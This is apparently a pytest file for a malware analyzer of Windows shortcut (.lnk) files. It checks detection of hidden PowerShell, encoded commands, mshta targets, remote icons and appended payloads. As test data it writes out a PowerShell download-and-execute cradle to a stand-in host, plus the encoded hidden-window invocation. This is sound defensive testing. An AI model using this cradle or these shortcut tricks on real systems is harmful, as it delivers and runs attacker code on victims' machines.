"""The unit for Windows shortcuts: what would run, where it was made, what it hides."""

from __future__ import annotations

import base64
import time

import pytest

from analyzers.attachments.lnk import UNIT
from analyzers.model.content import Link
from analyzers.model.observation import Child, Finding, Observation, Severity
from analyzers.model.unit import Unreadable
from analyzers.sniff import sniff
from tests.analyzers.attachments.observed import children, facts, findings, observe, survives
from tests.samples.shortcuts import (
    PANEL,
    POWERSHELL,
    items,
    path_items,
    paths,
    shortcut,
    tracker,
    volume_info,
)

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://files.test/a.ps1')"
ENCODED = base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def seen(data: bytes) -> list[Observation]:
    return observe(UNIT, data, "invoice.lnk", "lnk")


def test_an_honest_shortcut_only_says_what_it_opens() -> None:
    found = seen(shortcut(r"C:\Tools\report.exe", "--quiet", folder=r"C:\Tools"))
    assert {f.rule: f.severity for f in findings(found).values()} == {"lnk.target": Severity.INFO}
    told = facts(found)
    assert told["Would run"] == r"C:\Tools\report.exe --quiet"
    assert told["Working folder"] == r"C:\Tools"
    assert told["Target last changed"] == "2020-01-01T00:00:00+00:00"


def test_an_encoded_command_is_decoded_and_handed_on() -> None:
    found = seen(shortcut(POWERSHELL, f"-w hidden -nop -enc {ENCODED}"))
    command = findings(found)["lnk.command"]
    assert command.severity is Severity.CRITICAL
    assert command.title == (
        "Opening it runs PowerShell in a hidden window, decodes a command, "
        "fetches from hxxp://files[.]test/a.ps1 and runs it"
    )
    assert facts(found)["Decoded command 1"] == CRADLE
    assert children(found)["decoded command 1"] == CRADLE.encode()
    assert children(found)["command line"].startswith(b"-w hidden")
    given = [c for c in found if isinstance(c, Child)]
    assert {sniff(c.data, c.name, c.declared_type) for c in given} == {"script"}  # no plain text
    assert [link.url for link in found if isinstance(link, Link)] == ["http://files.test/a.ps1"]


def test_a_plain_interpreter_is_high_and_a_minimised_window_is_hidden() -> None:
    found = findings(seen(shortcut(r"C:\Windows\System32\cmd.exe", "/c dir", show=7)))
    assert found["lnk.command"].severity is Severity.HIGH
    assert "in a hidden window" in found["lnk.command"].title


def test_where_it_was_made_is_told() -> None:
    made = shortcut(
        r"C:\a\b.txt",
        info=volume_info(r"C:\a\b.txt", 0x307A8A81),
        extra=tracker("desk-7", "00:0c:29:aa:bb:cc", 0x1E9_0000_0000_0000),
        hot_key=0x0643,
    )
    told = facts(seen(made))
    assert told["Made on the computer"] == "desk-7"
    assert told["Network card (MAC)"] == "00:0c:29:aa:bb:cc"
    assert told["Volume serial"] == "307A8A81"
    assert told["Drive type"] == "fixed"
    assert told["Hot key"] == "Ctrl+Alt+C"
    assert "Other targets" not in told


def test_the_environment_target_goes_before_the_list() -> None:
    hidden = paths(0xA0000001, r"%windir%\System32\mshta.exe")
    found = seen(shortcut(r"C:\a\readme.txt", "http://a.test/b", extra=hidden, flags=1 << 9))
    assert facts(found)["Target"] == r"%windir%\System32\mshta.exe"
    assert findings(found)["lnk.target.differs"].severity is Severity.MEDIUM
    assert "mshta" in findings(found)["lnk.command"].title


@pytest.mark.parametrize(
    ("made", "rule", "severity"),
    [
        (shortcut(POWERSHELL, "-c a" + " " * 300 + "b"), "lnk.arguments.padded", Severity.HIGH),
        (shortcut(r"C:\a.exe", "x" * 300), "lnk.arguments.long", Severity.MEDIUM),
        (shortcut(POWERSHELL, "-c a", icon=r"C:\x\AcroRd32.exe"), "lnk.icon.poses", Severity.HIGH),
        (shortcut(r"C:\a.txt", icon=r"\\a.test@80\x\i.ico"), "lnk.icon.remote", Severity.HIGH),
        (shortcut(r"C:\a.txt", icon=r"\\files\x\i.ico"), "lnk.icon.remote", Severity.LOW),
        (
            shortcut(r"C:\a", flags=1 << 9, extra=paths(0xA0000001, r"\\a.test@SSL\b\a")),
            "lnk.target.remote",
            Severity.HIGH,
        ),
        (
            shortcut(
                listed=items(PANEL, b"\0" * 10 + "C:\\x\\a.cpl\0".encode("utf-16-le")),
            ),
            "lnk.library",
            Severity.HIGH,
        ),
        (shortcut(r"C:\a.txt", tail=b"MZ" + b"x" * 500), "lnk.appended", Severity.HIGH),
        (shortcut(r"C:\a.txt", "abc")[:-40], "lnk.damaged", Severity.LOW),
    ],
)  # fmt: skip
def test_tricks_are_findings(made: bytes, rule: str, severity: Severity) -> None:
    assert findings(seen(made))[rule].severity is severity


def test_what_hangs_behind_goes_down_the_tree() -> None:
    found = seen(shortcut(r"C:\a.txt", tail=b"MZ" + b"x" * 500))
    assert children(found)["appended data"] == b"MZ" + b"x" * 500
    padded = seen(shortcut(r"C:\a.txt", tail=bytes(500)))
    assert "lnk.appended" not in findings(padded)


def test_a_list_of_items_that_spells_nothing_is_counted() -> None:
    assert facts(seen(shortcut(listed=items(b"\0abc", b"\0def"))))["Target"].startswith("2 items")


def test_a_header_alone_is_unreadable() -> None:
    with pytest.raises(Unreadable):
        seen(b"L\0\0\0" + bytes(20))


def test_damage_never_escapes() -> None:
    whole = shortcut(POWERSHELL, "-c a", icon="a.ico", extra=tracker("m", "00:00:00:00:00:01", 5))
    assert survives(UNIT, whole + path_items(r"C:\a"), "lnk", 200) > 50


def test_long_arguments_stay_cheap() -> None:
    started = time.process_time()
    for filler in ("-enc ", "start ", "^", "\\\\a", "http://a.b/ ", " "):
        seen(shortcut(POWERSHELL, (filler * 60_000)[:60_000]))
    assert time.process_time() - started < 3


def test_only_real_targets_are_compared() -> None:
    found: list[Finding] = list(findings(seen(shortcut("C:\\\xe9t\xe9.txt"))).values())
    assert [one.rule for one in found] == ["lnk.target"]
